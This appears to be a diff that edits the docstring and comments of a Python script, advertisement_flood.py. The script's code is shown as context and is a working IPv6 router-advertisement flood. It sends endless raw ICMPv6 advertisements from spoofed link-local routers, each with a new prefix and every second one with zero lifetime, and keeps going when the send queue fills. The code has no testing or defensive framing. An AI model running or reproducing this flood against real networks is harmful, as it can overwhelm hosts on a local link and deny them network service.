@@ -1,4 +1,4 @@
-"""Router advertisements without end, each of another router and for another prefix: advertisement_flood.py INTERFACE."""
+"""Sends router advertisements for ever, each from another router and for another prefix: advertisement_flood.py INTERFACE."""
 
 import itertools
 import socket
@@ -19,7 +19,7 @@ link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 link.bind((sys.argv[1], 0x86dd))
 for number in itertools.count():
     router = socket.inet_pton(socket.AF_INET6, 'fe80::1:%x' % (number >> 1 & 0xffff))
-    # Every second one says goodbye.
+    # Every second advertisement says that its router leaves.
     lifetime = 0 if number & 1 else 1800
     prefix = struct.pack('>BBBBIII', 3, 4, 64, 0xc0, 2, 2, 0) + struct.pack('>HIH', 0xfd00, number, 0) + bytes(8)
     message = struct.pack('>BBHBBHII', 134, 0, 0, 64, 8, lifetime, 0, 0) + prefix
@@ -28,7 +28,7 @@ for number in itertools.count():
     try:
         link.send(bytes.fromhex('333300000001 02dd00000001 86dd') + header + message)
     except OSError:
-        # The queue is full.
+        # The send queue is full.
         continue
     if number == 2000:
         print('flooding', flush=True)
